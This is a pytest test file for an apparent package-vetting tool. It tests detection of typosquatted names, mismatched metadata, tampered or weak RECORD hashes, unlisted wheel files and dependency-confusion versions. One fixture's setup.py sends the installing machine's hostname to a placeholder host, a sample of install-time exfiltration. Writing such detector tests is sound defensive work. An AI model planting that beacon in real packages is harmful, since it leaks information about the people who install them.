"""Metadata signals on fixture packages and on the shipped list of top PyPI names."""

from __future__ import annotations

from pathlib import Path

import pytest

from builders import make_sdist, make_wheel, pkg_info
from pkgvet.analyzer.metadata import MetadataAnalyzer, top_names, typosquat_target
from pkgvet.model import Severity, Verdict
from pkgvet.package import load
from pkgvet.sources.local import local_artifact
from pkgvet.verdict import decide


def findings(path: Path) -> list:
    return list(MetadataAnalyzer().analyze(load(local_artifact(path))))


@pytest.mark.parametrize(
    ("name", "target"),
    [
        ("reqeusts", "requests"),
        ("requestss", "requests"),
        ("python-requests", "requests"),
        ("r\u0435quests", "requests"),  # Cyrillic e
        ("nunpy", "numpy"),
        ("djang0", "django"),
        ("py-yaml", "pyyaml"),
    ],
)
def test_typosquats_are_recognised(name: str, target: str) -> None:
    hit = typosquat_target(name)
    assert hit is not None and hit[0] == target


@pytest.mark.parametrize("name", ["requests", "requests-oauthlib", "boto", "boto3", "numpy", "a-unique-name"])
def test_real_projects_are_not_typosquats(name: str) -> None:
    assert typosquat_target(name) is None


def test_no_top_name_is_flagged() -> None:
    assert [n for n in top_names().ranked if typosquat_target(n)] == []


def test_typosquat_alone_does_not_make_a_verdict(tmp_path: Path) -> None:
    found = findings(make_sdist(tmp_path, "reqeusts", "1.0", {"setup.py": "from setuptools import setup\n"}))
    assert [f.rule_id for f in found] == ["PV501"]
    assert found[0].severity is Severity.MEDIUM
    assert decide(found) is Verdict.BENIGN


def test_name_and_version_mismatch(tmp_path: Path) -> None:
    sdist = make_sdist(tmp_path, "honest", "1.0", {"PKG-INFO": pkg_info("other", "2.0")})
    assert [f.rule_id for f in findings(sdist)] == ["PV502", "PV502"]


def test_record_tampering(tmp_path: Path) -> None:
    good = make_wheel(tmp_path, "fixture", "1.0", {"fixture/__init__.py": "x = 1\n"})
    assert findings(good) == []
    (tmp_path / "t").mkdir()
    bad = make_wheel(
        tmp_path / "t", "fixture", "1.0", {"fixture/__init__.py": "x = 1\n"},
        record_overrides={"fixture/__init__.py": "sha256=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"},
    )
    hits = [f for f in findings(bad) if f.rule_id == "PV504"]
    assert hits and hits[0].severity is Severity.HIGH
    assert decide(hits) is Verdict.SUSPICIOUS


def test_unlisted_module_in_wheel(tmp_path: Path) -> None:
    wheel = make_wheel(tmp_path, "fixture", "1.0", {"fixture/__init__.py": ""}, record=False)
    assert {f.rule_id for f in findings(wheel)} == {"PV507"}


def test_dependency_confusion_version(tmp_path: Path) -> None:
    setup = "import socket, requests\nrequests.get('https://x.invalid/' + socket.gethostname())\n"
    sdist = make_sdist(tmp_path, "internal-lib", "999.0.1", {"setup.py": setup})
    hits = [f for f in findings(sdist) if f.rule_id == "PV508"]
    assert hits and hits[0].severity is Severity.MEDIUM


def test_record_without_hash_or_with_a_weak_one(tmp_path: Path) -> None:
    wheel = make_wheel(
        tmp_path, "fixture", "1.0", {"fixture/__init__.py": "x = 1\n", "fixture/data.json": "{}"},
        record_overrides={"fixture/__init__.py": "", "fixture/data.json": ""},
    )
    hits = [f for f in findings(wheel) if f.rule_id == "PV520"]
    assert len(hits) == 1 and "fixture/__init__.py" in hits[0].snippet
    assert "data.json" not in hits[0].snippet  # only code, commands and entry points matter
    (tmp_path / "md5").mkdir()
    weak = make_wheel(tmp_path / "md5", "fixture", "1.0", {"fixture/__init__.py": ""},
                      record_overrides={"fixture/__init__.py": "md5=1B2M2Y8AsgTpgAmY7PhCfg"})
    assert "PV520" in {f.rule_id for f in findings(weak)}


def test_command_added_to_a_wheel_after_its_record(tmp_path: Path) -> None:
    import zipfile

    wheel = make_wheel(tmp_path, "fixture", "1.0", {"fixture/__init__.py": ""})
    with zipfile.ZipFile(wheel, "a") as zf:
        zf.writestr("fixture-1.0.data/scripts/fixture-sync", "#!python\nprint('inert')\n")
        zf.writestr("fixture-1.0.dist-info/entry_points.txt", "[console_scripts]\nx = fixture:x\n")
    unlisted = {f.snippet for f in findings(wheel) if f.rule_id == "PV505"}
    assert unlisted == {"fixture-1.0.data/scripts/fixture-sync", "fixture-1.0.dist-info/entry_points.txt"}
